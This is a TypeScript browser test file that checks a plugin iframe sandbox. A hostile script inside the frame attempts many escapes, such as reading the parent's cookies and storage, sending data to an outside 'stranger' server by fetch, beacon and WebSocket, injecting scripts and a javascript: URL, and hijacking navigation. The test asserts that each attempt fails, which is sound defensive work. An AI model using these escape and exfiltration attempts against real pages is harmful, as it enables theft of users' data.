/** A frame whose script tries every way out, in a real browser. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Frame, Page } from "playwright-core";
import { FRAME_BRIDGE } from "../../../runtime/rendering/frames/scripts.generated.ts";
import { boardWith } from "../../browser/board.ts";
import { openProfiles, type Profiles } from "../../browser/profiles.ts";
import { type FrameSite, type Stranger, aStranger, frameSite, serve } from "../../browser/frameSite.ts";

/** Each attempt reports its result, or the name of the error. */
const attacks = (stranger: string, site: string): string => `
const told = {};
const attempt = async (name, way) => {
  try { told[name] = String(await Promise.race([way(), soon(1500).then(() => "nothing")])); } catch (error) { told[name] = "threw " + error.name; }
};
const soon = (ms = 300) => new Promise((done) => setTimeout(done, ms));
const { fields } = await drawbridge.ready;
const known = ${JSON.stringify(FRAME_BRIDGE.integrity)};
const link = (members) => { document.head.append(Object.assign(document.createElement("link"), { crossOrigin: "", integrity: known }, members)); return soon(); };
await attempt("document of the page", () => parent.document.title);
await attempt("storage of the page", () => parent.localStorage.length);
await attempt("cookie", () => document.cookie);
await attempt("storage", () => localStorage.length);
await attempt("database", () => new Promise((done, fail) => { const o = indexedDB.open("a"); o.onsuccess = done; o.onerror = () => fail(o.error); }));
await attempt("fetch", () => fetch("${stranger}/fetch"));
await attempt("fetch without cors", () => fetch("${stranger}/nocors", { mode: "no-cors" }));
await attempt("fetch of the site", () => fetch("${site}/api/site", { credentials: "include" }));
await attempt("beacon", () => navigator.sendBeacon("${stranger}/beacon", "x") && soon());
await attempt("socket", () => new Promise((done, fail) => { const s = new WebSocket("${stranger.replace("http", "ws")}/ws"); s.onopen = () => done("open"); s.onerror = () => fail(new Error("no")); }));
await attempt("events", () => new Promise((done, fail) => { const s = new EventSource("${stranger}/events"); s.onopen = () => done("open"); s.onerror = () => fail(new Error("no")); }));
await attempt("picture", () => new Promise((done, fail) => { const i = new Image(); i.onload = () => done("loaded"); i.onerror = () => fail(new Error("no")); i.src = "${stranger}/picture.png"; }));
await attempt("style sheet", () => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "${stranger}/a.css"; document.head.append(l); return soon(); });
await attempt("prefetch", () => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = "${stranger}/prefetch"; document.head.append(l); return soon(); });
await attempt("font", () => new FontFace("x", "url(${stranger}/a.woff2)").load());
await attempt("worker", () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => done("ran"); w.onerror = () => fail(new Error("no")); setTimeout(() => fail(new Error("no")), 500); }));
await attempt("service worker", () => navigator.serviceWorker.register("/sw.js"));
await attempt("code from text", () => (0, eval)("1"));
await attempt("function from text", () => new Function("return 1")());
await attempt("handler from text", () => { const d = document.createElement("div"); d.innerHTML = '<img src="data:," onerror="parent.postMessage({ ran: 1 }, 1)">'; document.body.append(d); return soon(50).then(() => d.firstChild.onerror); });
await attempt("script from text", () => { const s = document.createElement("script"); s.textContent = "document.title = 1"; document.body.append(s); return soon(50); });
await attempt("preload with a known digest", () => link({ rel: "preload", as: "script", href: "${stranger}/preload" }));
await attempt("module preload with a known digest", () => link({ rel: "modulepreload", href: "${stranger}/modulepreload" }));
await attempt("script of an address with a known digest", () => { document.body.append(document.createRange().createContextualFragment('<script src="${stranger}/script.js" crossorigin integrity="' + known + '"><' + "/script>")); return soon(); });
await attempt("frame of an address", () => { const f = document.createElement("iframe"); f.src = "${stranger}/inner"; document.body.append(f); return soon(); });
await attempt("frame of a blob", () => { const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<h1>x"], { type: "text/html" })); document.body.append(f); return soon().then(() => f.contentWindow.document.body.textContent); });
await attempt("realm of an empty frame", () => { const f = document.createElement("iframe"); document.body.append(f); return typeof f.contentWindow.RTCPeerConnection; });
await attempt("peer connection", () => typeof RTCPeerConnection);
await attempt("form", () => { const f = document.createElement("form"); f.action = "${stranger}/form"; document.body.append(f); f.submit(); return soon(); });
await attempt("window", () => open("${stranger}/window"));
await attempt("top", () => { top.location = "${stranger}/top"; return soon(); });
await attempt("link", () => { const a = document.createElement("a"); a.href = "${stranger}/link"; a.target = "_top"; document.body.append(a); a.click(); return soon(); });
await attempt("code in the page", () => { parent.location = "javascript:document.title='taken'"; return soon(); });
for (const height of [Infinity, -1, NaN, 1e9, "1e9", [9], { a: 9 }]) parent.postMessage({ height, ready: true, fields: "<b>x</b>" }, "*");
const out = document.createElement("output");
out.textContent = JSON.stringify(told);
document.body.append(out);
`;

const FAILED = /^(threw \w+|nothing)$/;

/** The harmless results of each attempt. Any other is a breach. */
const HARMLESS: Readonly<Record<string, string>> = {
  beacon: "undefined",
  "style sheet": "undefined",
  "handler from text": "null",
  "preload with a known digest": "undefined",
  "module preload with a known digest": "undefined",
  "script of an address with a known digest": "undefined",
  prefetch: "undefined",
  "frame of an address": "undefined",
  "peer connection": "undefined",
  form: "undefined",
  window: "null",
  link: "undefined",
};

let browser: Profiles;
let stranger: Stranger;
let site: FrameSite;
let page: Page;
let frame: Frame;
let told: Readonly<Record<string, string>>;

async function frameIn(shown: Page): Promise<Frame> {
  const found = await (await shown.waitForSelector("[data-frame] iframe", { state: "attached" })).contentFrame();
  if (!found) throw new Error("there is no frame");
  return found;
}

beforeAll(async () => {
  [browser, stranger] = await Promise.all([openProfiles(), aStranger()]);
  // The site's address is unknown before it listens, so the script takes it from its parent frame.
  site = await frameSite(boardWith(attacks(stranger.origin, "http://127.0.0.1")), "lantern.board/tasks", {
    title: "T",
  });
  const context = await browser.newContext();
  await context.addCookies([{ name: "login", value: "secret", url: site.origin }]);
  page = await context.newPage();
  await page.goto(site.origin);
  frame = await frameIn(page);
  await frame.waitForSelector("output", { timeout: 30_000, state: "attached" });
  told = JSON.parse((await frame.textContent("output")) ?? "") as Readonly<Record<string, string>>;
});

afterAll(async () => {
  await browser?.close();
  stranger?.stop();
  site?.stop();
});

describe("a frame that tries to escape", () => {
  test("gets nothing, in any way it tries", () => {
    expect(Object.keys(told).length).toBeGreaterThan(27);
    const got = Object.entries(told).filter(([way, what]) => !FAILED.test(what) && HARMLESS[way] !== what);
    expect(got).toEqual([]);
  });

  test("cannot reach another machine", () => {
    expect(stranger.asked).toEqual([]);
  });

  test("cannot navigate or change the page around it", async () => {
    expect(page.url()).toBe(`${site.origin}/`);
    expect(await page.title()).not.toBe("taken");
    expect(page.context().pages()).toHaveLength(1);
    expect(await page.locator("b").count()).toBe(0);
    const height = await page.locator("iframe").evaluate((element) => element.getBoundingClientRect().height);
    expect(height).toBeLessThanOrEqual(4000);
  });

  test("has an opaque origin, inside of the page and opened alone", async () => {
    expect(await frame.evaluate(() => self.origin)).toBe("null");
    const alone = await page.context().newPage();
    await alone.goto(`${site.origin}/_assets/frame/lantern.board/tasks`);
    expect(await alone.evaluate(() => self.origin)).toBe("null");
    await expect(alone.evaluate(() => document.cookie)).rejects.toThrow(/sandbox/);
    await alone.close();
  });
});

test("a frame that navigates itself is stopped by the page around it", async () => {
  const leaving = await frameSite(
    boardWith(`await drawbridge.ready; location.href = "${stranger.origin}/leaving?with=fields";`),
    "lantern.board/tasks",
    { title: "T" },
  );
  const shown = await browser.newPage();
  const refused = shown.waitForEvent("console", (message) => /frame-src/.test(message.text()));
  await shown.goto(leaving.origin);
  await refused;
  expect(stranger.asked).toEqual([]);
  await shown.close();
  leaving.stop();
});

test("a frame that a visitor opens by itself runs nothing of its plugin, and leads the visitor nowhere", async () => {
  const waits = "const soon = (ms) => new Promise((done) => setTimeout(done, ms));";
  const leaves = `location.href = "${stranger.origin}/alone"; await soon(100); document.title = "ran";`;
  const alone = await frameSite(boardWith(`${waits} ${leaves}`), "lantern.board/tasks", { title: "T" });
  const shown = await browser.newPage();
  const address = `${alone.origin}/_assets/frame/lantern.board/tasks`;
  await shown.goto(address, { waitUntil: "load" });
  await shown.waitForTimeout(500);
  expect(shown.url()).toBe(address);
  expect(stranger.asked).toEqual([]);
  expect(await shown.evaluate(() => document.scripts.length)).toBe(0);
  await shown.close();
  alone.stop();
});

test("a page of another origin cannot embed a frame", async () => {
  const other = await serve((_request, response) =>
    response
      .setHeader("Content-Type", "text/html")
      .end(`<!doctype html><iframe src="${site.origin}/_assets/frame/lantern.board/tasks"></iframe>`),
  );
  const shown = await browser.newPage();
  const refused = shown.waitForEvent("console", (message) => /frame-ancestors|X-Frame-Options/.test(message.text()));
  await shown.goto(other.origin);
  expect((await refused).text()).toContain("frame");
  await shown.close();
  other.server.close();
});
